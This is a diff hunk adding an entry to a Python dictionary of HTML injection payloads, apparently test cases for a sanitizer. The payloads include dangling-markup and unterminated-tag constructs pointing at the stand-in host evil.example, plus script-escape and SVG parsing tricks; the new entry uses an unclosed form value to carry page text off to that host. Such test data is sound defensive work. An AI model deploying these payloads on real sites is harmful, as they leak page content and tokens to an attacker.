@@ -50,6 +50,10 @@ KEPT = {
     "data_attribute": '<div data-src="https://evil.example/{t}">x</div>',
     "form_action": '<form action="https://evil.example/{t}"></form>',
     "unterminated_tag": "<img src=https://evil.example/{t}",
+    "dangling_form_value": (
+        '<form action="https://evil.example/"><button>Go</button><input name=x value="</p>'
+        "<p>{t}</p>"
+    ),
     "script_escape": "<script><!--<script></script><p>{t}</p></script>",
     "svg_foreign_content": '<svg><style><a href="</style><p>{t}</p>',
 }
